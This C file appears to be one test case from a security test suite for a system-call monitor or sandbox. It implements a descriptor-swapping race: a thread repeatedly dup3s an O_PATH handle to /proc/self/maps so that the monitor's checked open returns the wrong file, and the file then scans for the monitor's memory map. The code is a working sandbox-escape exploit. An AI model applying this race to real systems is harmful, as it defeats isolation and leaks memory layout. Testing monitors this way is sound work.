// A descriptor that the monitor makes on the way to an open is replaced by another thread (dup2 of an O_PATH
// descriptor of /proc/self/maps) between its inspection and its use: then the open's result is the real file.
#include "attack.h"
#include <pthread.h>

static int bait;

static void *swaps(void *unused) {
    for (;;)
        for (int low = 4; low < 6; low++)
            dup3(bait, low, O_CLOEXEC), close(low);
    return unused;
}

int main(void) {
    static const char *const names[] = {"/proc/self/status", "/etc/passwd", "/proc/self/fd/1", "/dev/null",
                                        "/proc/self/auxv"};
    static char text[65536];
    pthread_t thread;
    bait = open("/proc/self/maps", O_PATH);
    if (bait != 3 && dup2(bait, 3) != 3)
        attack_broken("the bait");
    bait = 3;
    int file = open("/tmp/path_swap_open", O_CREAT | O_RDWR, 0600);
    if (file >= 0)
        close(file);
    pthread_create(&thread, NULL, swaps, NULL);
    for (unsigned i = 0; !attack_over(); i++) {
        int fd = open(names[i % 5], O_RDONLY | O_NONBLOCK);
        if (fd < 0)
            continue;
        long n = pread(fd, text, sizeof text - 1, 0);
        close(fd);
        text[n > 0 ? n : 0] = 0;
        for (char *line = text; *line;) {
            unsigned long from, to;
            char perms[8];
            if (sscanf(line, "%lx-%lx %4s", &from, &to, perms) == 3 && from >= ATTACK_WINDOW_END &&
                from < 0xff00000000000000UL)
                attack_won("%s opened as the monitor's maps: %.60s", names[i % 5], line);
            char *end = strchr(line, '\n');
            line = end ? end + 1 : line + strlen(line);
        }
    }
    attack_lost();
}
